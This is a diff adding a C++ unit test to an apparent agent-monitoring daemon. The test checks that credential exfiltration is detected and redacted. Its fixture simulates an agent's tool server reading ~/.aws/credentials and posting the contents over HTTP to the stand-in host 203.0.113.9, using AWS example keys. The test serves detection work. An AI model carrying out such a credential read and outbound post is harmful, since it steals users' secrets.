@@ -5,10 +5,13 @@
 #include <unistd.h>
 
 #include <map>
+#include <set>
+#include <tuple>
 
 #include <gtest/gtest.h>
 
 #include "daemon/trace_file.h"
+#include "detect/rules.h"
 #include "events.h"
 
 namespace agentwatch {
@@ -267,6 +270,87 @@ TEST(PipelineTest, CallsBecomeChainUpdatesWithTheirEffects) {
   EXPECT_EQ(u.entry().effects(0).summary(), "open /data/a O_RDONLY = 5");
   EXPECT_EQ(updates[2].chain_update().entry().effects_size(), 0);
   EXPECT_EQ(p.correlator().Chains(41, 0, 0).size(), 1u);
+}
+
+TEST(PipelineTest, BytesSentOutsideAreInspectedBeforeTheyAreCut) {
+  std::vector<v1::Event> out;
+  Pipeline p(Pipeline::Options{}, nullptr,
+             [&](const v1::Event& ev, const std::vector<uint32_t>&) { out.push_back(ev); });
+  RuleSet rules;
+  ASSERT_EQ(LoadRules("", &rules), "");
+  ASSERT_EQ(p.SetDetectionRules(rules), "");
+  uint64_t t = 1000000;
+  auto base = [&](v1::EventType type, uint32_t pid) {
+    v1::Event e;
+    e.set_type(type);
+    e.set_ktime_ns(t += 1000);
+    e.set_time_unix_ns(1700000000000000000 + static_cast<int64_t>(t));
+    e.mutable_process()->set_pid(pid);
+    e.mutable_process()->set_tid(pid);
+    return e;
+  };
+  for (auto [pid, ppid, exe] : {std::tuple{1u, 0u, "/sbin/init"}, {41u, 1u, "/usr/bin/agent"},
+                                {42u, 41u, "/usr/bin/node"}}) {
+    v1::Event e = base(v1::EVENT_TYPE_PROCESS_SNAPSHOT, pid);
+    e.mutable_process()->set_ppid(ppid);
+    e.mutable_exec()->set_filename(exe);
+    p.Process(e);
+  }
+  std::map<int, uint64_t> offsets;
+  auto payload = [&](int fd, const char* type, std::string data) {
+    v1::Event e = base(v1::EVENT_TYPE_PAYLOAD, 42);
+    e.mutable_process()->set_watched(true);
+    auto* pl = e.mutable_payload();
+    pl->set_syscall(fd == 0 ? "read" : "write");
+    pl->set_fd(fd);
+    pl->set_direction(fd == 0 ? "in" : "out");
+    pl->set_file_type(type);
+    pl->set_inode(900 + static_cast<uint64_t>(fd));
+    pl->set_offset(offsets[fd]);
+    pl->set_syscall_length(data.size());
+    offsets[fd] += data.size();
+    pl->set_data(std::move(data));
+    p.Process(e);
+  };
+  // A stdio server (42) of agent 41 reads a credentials file for it...
+  payload(0, "pipe", R"({"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"a","version":"1"}}})" "\n");
+  payload(1, "pipe", R"({"jsonrpc":"2.0","id":0,"result":{"protocolVersion":"2025-06-18","capabilities":{},"serverInfo":{"name":"s","version":"1"}}})" "\n");
+  payload(0, "pipe", R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read","arguments":{"path":"/home/u/.aws/credentials"}}})" "\n");
+  v1::Event open = base(v1::EVENT_TYPE_FILE_OPEN, 42);
+  open.mutable_file()->set_path("/home/u/.aws/credentials");
+  open.mutable_file()->set_flags_text("O_RDONLY");
+  open.mutable_file()->set_result(5);
+  p.Process(open);
+  const std::string creds =
+      "[default]\\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\\naws_secret_access_key = "
+      "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\\nregion = eu-west-1";
+  payload(1, "pipe", R"({"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":")" + creds + R"("}]}})" "\n");
+  // ...then connects outside and posts it (fd 7, its own socket).
+  v1::Event conn = base(v1::EVENT_TYPE_NET_CONNECT, 42);
+  conn.mutable_net()->set_protocol("tcp");
+  conn.mutable_net()->set_socket_inode(907);
+  conn.mutable_net()->mutable_remote()->set_family("inet");
+  conn.mutable_net()->mutable_remote()->set_address("203.0.113.9");
+  conn.mutable_net()->mutable_remote()->set_port(80);
+  p.Process(conn);
+  payload(7, "socket",
+          "POST /c HTTP/1.1\r\nHost: 203.0.113.9\r\nContent-Length: 140\r\n\r\n"
+          "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = "
+          "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\nregion = eu-west-1");
+  std::set<std::string> rules_hit;
+  const v1::PayloadInfo* sent = nullptr;
+  for (const auto& e : out) {
+    if (e.type() == v1::EVENT_TYPE_ALERT) rules_hit.insert(e.alert().rule_id());
+    if (e.type() == v1::EVENT_TYPE_PAYLOAD && e.payload().fd() == 7) sent = &e.payload();
+  }
+  ASSERT_NE(sent, nullptr);
+  EXPECT_EQ(sent->remote().address(), "203.0.113.9");
+  EXPECT_TRUE(sent->secret());
+  ASSERT_EQ(sent->flows_size(), 1);
+  EXPECT_EQ(sent->flows(0).from_tool(), "read");
+  EXPECT_EQ(sent->data().find("wJalrXUtnFEMI"), std::string::npos) << "the preview is redacted";
+  EXPECT_TRUE(rules_hit.count("secret-sent-out"));
+  EXPECT_TRUE(rules_hit.count("sensitive-data-sent-out")) << "the content is seen leaving";
 }
 
 TEST(PipelineTest, QueueOverflowIsCountedAndMarked) {
